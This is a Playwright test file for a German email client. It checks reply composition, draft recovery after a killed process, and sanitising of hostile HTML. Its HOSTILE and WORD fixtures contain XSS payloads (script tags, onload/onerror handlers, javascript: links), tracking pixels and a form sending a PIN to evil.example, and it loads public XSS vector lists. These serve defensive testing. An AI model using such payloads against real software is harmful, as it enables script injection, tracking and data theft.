/**
 * Writing mail against a real Postfix and Dovecot: an answer with its quote and file arrives; a draft survives a killed program; a
 * formatted answer has both forms, and nothing of a hostile original is obeyed, loaded or sent on.
 */
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, type Page, test } from "@playwright/test";
import { simpleParser } from "mailparser";
import { type LaunchedApp, launchApp } from "#support/app.ts";
import { aRawMessage } from "#support/mail.ts";
import { hasServers } from "#support/servers/available.ts";
import { type MailServer, startMailServer } from "#support/servers/mail-server.ts";
import { violations } from "./screens/axe.ts";
import { done, goTo, reload, saveAccount } from "./screens/bridge.ts";
import { button } from "./screens/wizard.ts";

test.skip(!hasServers("dovecot", "postfix"), "needs Dovecot and Postfix");

const OWN = "rechnungen@firma.example";
const OTHER = "jana@firma.example";
let server: MailServer;
let folder: string;
test.beforeAll(async () => {
  server = await startMailServer();
});
test.afterAll(() => server.stop());
test.beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "postkontor-compose-"));
});
test.afterEach(() => rmSync(folder, { recursive: true, force: true, maxRetries: 3 }));

const start = (): Promise<LaunchedApp> =>
  launchApp({ userData: join(folder, "data"), env: { NODE_EXTRA_CA_CERTS: server.authority.caFile } });
const row = (window: Page, subject: string) => window.getByRole("option").filter({ hasText: subject });

test("an answer arrives in its conversation, with quote and file; a draft survives kill -9", async () => {
  server.dovecot.deliver(OWN, aRawMessage({ subject: "AW: Angebot für Süßmost", text: "Wann liefern Sie?", from: `Jana <${OTHER}>` }));
  const first = await start();
  const { window } = first;
  const account = await saveAccount(window, server.account(OWN));
  await done(window, "sync.run", { accountId: account.id });
  await reload(window);
  await goTo(window, "E-Mail");
  await row(window, "Süßmost").click();
  await button(window, "Antworten").click();
  await expect(window.getByRole("heading", { level: 1, name: "Antwort" })).toBeVisible();
  await expect(window.getByLabel("Betreff")).toHaveValue("Re: Angebot für Süßmost");
  await expect(window.getByLabel("Text", { exact: true })).toBeFocused();
  await window.keyboard.type("Am Donnerstag, Größe L.");
  const file = join(folder, "Lieferplan März.txt");
  writeFileSync(file, "Donnerstag, Rampe 2");
  await window.locator('input[type="file"]').setInputFiles(file);
  await expect(window.getByText("Lieferplan März.txt")).toBeVisible();
  await expect(window.getByText(/^Entwurf gespeichert/)).toBeVisible();

  const ended = new Promise((resolve) => first.app.process().once("exit", resolve));
  first.app.process().kill("SIGKILL");
  await ended;

  const second = await start();
  await goTo(second.window, "E-Mail");
  await button(second.window, "1 Entwurf").click();
  await second.window.getByRole("button", { name: /Re: Angebot für Süßmost/ }).click();
  const text = second.window.getByLabel("Text", { exact: true });
  await expect(text.locator("p").first()).toHaveText("Am Donnerstag, Größe L.");
  await expect(text.locator("blockquote")).toHaveText("Wann liefern Sie?");
  await expect(second.window.getByText("Lieferplan März.txt")).toBeVisible();
  await button(second.window, "Senden").click();
  await expect(second.window.getByText("E-Mail liegt im Postausgang.")).toBeVisible();
  await expect(button(second.window, "1 Entwurf")).toHaveCount(0);

  const [raw = Buffer.alloc(0)] = await server.received(OTHER);
  const mail = await simpleParser(raw);
  const [original = Buffer.alloc(0)] = await server.received(OWN);
  const { messageId } = await simpleParser(original);
  expect(mail.subject).toBe("Re: Angebot für Süßmost");
  expect([mail.inReplyTo, mail.references]).toEqual([messageId, messageId]);
  expect(mail.from?.value[0]?.address).toBe(OWN);
  expect(mail.text).toMatch(/^Am Donnerstag, Größe L\.[\s\S]* schrieb Jana:\n> Wann liefern Sie\?/);
  // Nothing was formatted: the words say it all.
  expect(mail.html).toBe(false);
  expect(mail.attachments.map(({ filename, content }) => [filename, content.toString()])).toEqual([
    ["Lieferplan März.txt", "Donnerstag, Rampe 2"],
  ]);
  expect(mail.headers.has("auto-submitted")).toBe(false);
  await expect(row(second.window, "Süßmost").getByRole("img", { name: "Beantwortet" })).toBeVisible();
  expect(second.problems()).toEqual([]);
  await second.close();
});

const PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const HOSTILE = `<html><head><style>p{background:url(https://evil.example/style.png)}</style></head>
<body onload="alert(1)" background="https://evil.example/body.png">
<p class="MsoNormal">Guten Tag,<script>alert(2)</script></p>
<p>bitte <b>bis Freitag</b> liefern.</p>
<img src="https://evil.example/pixel.gif?id=anna" width="1" height="1"><img src="https://evil.example/logo.png" alt="Unser Logo" onerror="alert(3)">
<img src="cid:logo@firma.example" alt="Siegel"><form action="https://evil.example/form"><input name="pin" value="4711"><button>Los</button></form>
<a href="javascript:alert(4)">falsch</a> <a href="https://firma.example/angebot">Angebot</a>
<table border="1"><tr><th>Artikel</th><th>Menge</th></tr><tr><td>Saft</td><td>12</td></tr></table>
<iframe src="https://evil.example/frame"></iframe><svg onload="alert(5)"><a xlink:href="https://evil.example/svg">x</a></svg>
<div style="position:fixed;top:0;background:url(https://evil.example/div.png)">Ende</div></body></html>`;

function hostileMail(): Buffer {
  const lines = [
    ...[
      `From: Jana <${OTHER}>`,
      `To: ${OWN}`,
      "Subject: Lieferung",
      "Message-ID: <hostil@firma.example>",
      "References: <erste@firma.example>",
    ],
    ...["Date: Mon, 23 Nov 2026 09:31:00 +0100", "MIME-Version: 1.0", 'Content-Type: multipart/related; boundary="teil"', ""],
    ...["--teil", "Content-Type: text/html; charset=utf-8", "", HOSTILE],
    ...[
      "--teil",
      "Content-Type: image/png",
      "Content-Transfer-Encoding: base64",
      "Content-ID: <logo@firma.example>",
      "",
      PIXEL,
      "--teil--",
      "",
    ],
  ];
  return Buffer.from(lines.join("\r\n").replace(/\r?\n/g, "\r\n"));
}

test("a formatted answer to hostile HTML arrives in both forms, and sends nothing of the attack on", async () => {
  server.dovecot.deliver(OWN, hostileMail());
  const { window, problems, close } = await start();
  const asked: string[] = [];
  window.on("request", (request) => asked.push(request.url()));
  window.on("dialog", (dialog) => {
    asked.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  const account = await saveAccount(window, server.account(OWN));
  await done(window, "sync.run", { accountId: account.id });
  await reload(window);
  await goTo(window, "E-Mail");
  await row(window, "Lieferung").click();
  await button(window, "Antworten").click();
  const text = window.getByRole("textbox", { name: "Text", exact: true });
  await expect(text).toBeFocused();
  const quote = text.locator("blockquote");
  await expect(quote.locator("b, strong")).toHaveText("bis Freitag");
  await expect(quote).toContainText("[Bild: Unser Logo]");
  await expect(quote.locator("img[src]")).toHaveCount(1);
  await expect(quote.locator("td")).toHaveText(["Artikel", "Menge", "Saft", "12"]);
  await expect(text.locator("script, form, input, button, iframe, svg, style, [style], [onload], [onerror]")).toHaveCount(0);

  await window.keyboard.type("Gern, ");
  await window.keyboard.press("Control+b");
  await window.keyboard.type("am Donnerstag");
  await window.keyboard.press("Control+b");
  await window.keyboard.press("Enter");
  await window.keyboard.type("- Rampe 2");
  await window.keyboard.press("Enter");
  await window.keyboard.type("neun Uhr");
  await expect(window.getByText(/^Entwurf gespeichert/)).toBeVisible();
  for (const appearance of ["dark", "light"] as const) {
    await done(window, "settings.update", { appearance });
    await expect(window.locator("html")).toHaveAttribute("data-mantine-color-scheme", appearance);
    expect([appearance, await violations(window)]).toEqual([appearance, []]);
  }
  await text.focus();
  await window.keyboard.press("Control+Enter");
  await expect(window.getByText("E-Mail liegt im Postausgang.")).toBeVisible();

  const arrived = async () => {
    const all = await Promise.all((await server.received(OTHER)).map((one) => simpleParser(one, { keepCidLinks: true })));
    return all.find(({ subject }) => subject === "Re: Lieferung");
  };
  // It waits for the time of undoing first.
  await expect.poll(async () => (await arrived())?.subject, { timeout: 60_000 }).toBe("Re: Lieferung");
  const mail = await arrived();
  if (!mail) throw new Error("The answer did not arrive");
  expect([mail.inReplyTo, mail.references]).toEqual(["<hostil@firma.example>", ["<erste@firma.example>", "<hostil@firma.example>"]]);
  expect(mail.text).toMatch(
    /^Gern, am Donnerstag\n- Rampe 2\n- neun Uhr\n[\s\S]* schrieb Jana:\n> Guten Tag,\n> bitte bis Freitag liefern\./,
  );
  expect(mail.text).toContain("Angebot <https://firma.example/angebot>");
  expect(mail.text).toContain("> Saft | 12");
  const html = mail.html || "";
  expect(html).toMatch(/Gern, <strong>am Donnerstag<\/strong>/);
  expect(html).toMatch(/<li><p[^>]*>Rampe 2<\/p><\/li>/);
  expect(html).toMatch(/<blockquote type="cite"/);
  const [picture] = mail.attachments;
  expect(mail.attachments).toHaveLength(1);
  expect(html).toContain(`src="cid:${picture?.cid}"`);
  expect(picture?.content.toString("base64")).toBe(PIXEL);
  expect(`${html}${mail.text}`).not.toMatch(/evil\.example|alert\(|<script|<form|<input|<iframe|<svg|javascript:|url\(|onerror|4711/i);
  expect(asked.filter((url) => !/^(?:app|data|blob):/.test(url))).toEqual([]);
  expect(problems()).toEqual([]);
  await close();
});

const WORD = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Microsoft Word 15"><style>p.MsoNormal{margin:0cm}</style></head>
<body lang=DE style="tab-interval:35.4pt"><!--StartFragment--><p class=MsoNormal style="mso-margin-top-alt:auto"><b><span style="font-size:14pt;color:red">Preise<o:p></o:p></span></b></p>
<p class=MsoListParagraph style="text-indent:-18pt"><!--[if !supportLists]--><span style="mso-list:Ignore">1.</span><!--[endif]-->Saft</p>
<table class=MsoTableGrid border=1><tr><td width=201 valign=top><p class=MsoNormal>Saft</p></td><td><p class=MsoNormal>2,50 €</p></td></tr></table>
<img src="https://evil.example/word.png" alt="Logo"><img src="file:///C:/Users/x/clip_image001.png"><!--EndFragment--></body></html>`;
const VECTORS = join(import.meta.dirname, "../../../shared/corpus/vectors");

test("what is pasted is reduced to what the editor knows, and fetches nothing", async () => {
  test.setTimeout(240_000);
  const { window, problems, close } = await start();
  const deeds: string[] = [];
  window.on("request", (request) => deeds.push(request.url()));
  window.on("dialog", (dialog) => {
    deeds.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  await saveAccount(window, server.account(OWN));
  await reload(window);
  await goTo(window, "E-Mail");
  await button(window, "Neue E-Mail").click();
  const text = window.getByRole("textbox", { name: "Text", exact: true });
  await text.click();
  /** Pastes each in the place of the last; answers what is in the editor then that the short list does not know. */
  const pasted = (htmls: string[]) =>
    text.evaluate(async (editor, all) => {
      const TAGS = /^(?:p|strong|em|u|s|a|ul|ol|li|blockquote|br|h[123]|pre|code|hr|table|tbody|tr|td)$/;
      const found: string[] = [];
      for (const html of all) {
        document.execCommand("selectAll");
        const clipboardData = new DataTransfer();
        clipboardData.setData("text/html", html);
        clipboardData.setData("text/plain", "x");
        editor.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
        for (const element of editor.querySelectorAll("*")) {
          if (element.className.toString().startsWith("ProseMirror-")) continue;
          if (!TAGS.test(element.localName)) found.push(`<${element.localName}> from ${html.slice(0, 120)}`);
          for (const { name, value } of element.attributes) {
            const isGood =
              name === "href"
                ? /^(?:https?|mailto|tel):/i.test(value.trim())
                : /^(?:class|start|type|colspan|rowspan|contenteditable)$/.test(name);
            if (!isGood) found.push(`${name}="${value.slice(0, 60)}" from ${html.slice(0, 120)}`);
          }
        }
      }
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
      return found;
    }, htmls);

  expect(await pasted([WORD])).toEqual([]);
  await expect(text.locator("strong")).toHaveText("Preise");
  await expect(text.locator("td")).toHaveText(["Saft", "2,50 €"]);
  const names = existsSync(VECTORS) ? ["html5sec", "owasp-filter-evasion", "roundcube-washtml", "rsnake-xss-attacks", "bleach"] : [];
  for (const name of names) {
    const { items } = JSON.parse(readFileSync(join(VECTORS, `${name}.json`), "utf8")) as { items: { payload: unknown }[] };
    expect(await pasted(items.map(({ payload }) => payload).filter((payload) => typeof payload === "string")), name).toEqual([]);
  }
  expect(deeds.filter((url) => !/^(?:app|data|blob):/.test(url))).toEqual([]);
  expect(problems()).toEqual([]);
  await close();
});
